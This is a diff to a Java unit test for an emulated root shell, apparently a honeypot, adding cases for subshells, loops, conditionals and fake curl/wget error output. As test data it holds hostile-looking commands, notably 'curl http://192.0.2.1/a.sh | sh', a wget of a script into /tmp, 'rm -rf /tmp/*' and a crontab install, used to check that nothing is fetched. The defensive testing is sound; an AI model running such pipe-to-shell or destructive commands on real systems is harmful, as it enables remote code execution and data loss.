@@ -26,7 +26,7 @@ class FakeShellTest {
       quoteCharacter = '`',
       value = {
         "whoami§root",
-        "id -u; true && pwd§uid=0(root) gid=0(root) groups=0(root)\\n/root",
+        "id; id -u; true && pwd§uid=0(root) gid=0(root) groups=0(root)\\n0\\n/root",
         "echo \"a  b\" 'c;d' e\\ f§a  b c;d e f",
         "echo -e '\\x41\\102'§A\\\\102",
         "false && echo no§",
@@ -46,6 +46,17 @@ class FakeShellTest {
         "rm -rf /tmp/*; mkdir /tmp/d; ls /tmp§d",
         "crontab -l§no crontab for root",
         "echo '* * * * * x' | crontab -; crontab -l§* * * * * x",
+        "(echo a; echo b) | cat§a\\nb",
+        "{ echo a; }; echo b§a\\nb",
+        "echo $(whoami) \"$(echo in quotes)\"§root in quotes",
+        "echo $(echo $(echo deep))§deep",
+        "for i in 1 2 3; do echo n$i; done; echo end§n1\\nn2\\nn3\\nend",
+        "if [ -f /etc/passwd ]; then echo yes; else echo no; fi§yes",
+        "if false; then echo a; elif true; then echo b; else echo c; fi§b",
+        "while false; do echo never; done; until true; do echo never; done; echo x§x",
+        "for i in a b; do if [ $i = b ]; then echo $i; fi; done§b",
+        "[ -d /tmp ] && [ ! -e /nope ] && [ 3 -gt 2 ] && [ a != b ] && test -z '' && echo all§all",
+        "echo if then done§if then done",
         "echo x # not this§x"
       })
   void linesAreAnsweredAsAShellDoes(String line, String expected) {
@@ -54,9 +65,26 @@ class FakeShellTest {
   }
 
   @Test
+  void backQuotesHoldALineToo() {
+    assertThat(run("echo `id -un` \"`echo b`\"")).isEqualTo("root b\n");
+  }
+
+  @Test
+  void aTestThatIsNotClosedIsToldSo() {
+    assertThat(run("[ -f /tmp")).isEqualTo("-bash: [: missing `]'\n");
+  }
+
+  @Test
   void nothingIsFetched() {
     assertThat(run("curl http://192.0.2.1/a.sh | sh"))
-        .isEqualTo("curl: (28) Failed to connect to 192.0.2.1 port 80: Connection timed out\n");
+        .isEqualTo(
+            "curl: (7) Failed to connect to 192.0.2.1 port 80 after 0 ms: Connection refused\n");
+    assertThat(run("curl http://a.example/x"))
+        .isEqualTo("curl: (6) Could not resolve host: a.example\n");
+    assertThat(run("wget http://192.0.2.1:8080/a.sh -O /tmp/a"))
+        .isEqualTo(
+            "--2026-03-04 05:06:07--  http://192.0.2.1:8080/a.sh\n"
+                + "Connecting to 192.0.2.1:8080... failed: Connection refused.\n");
     assertThat(run("wget http://192.0.2.1/a.sh && echo got")).doesNotContain("got");
     assertThat(run("ls")).isEmpty();
   }
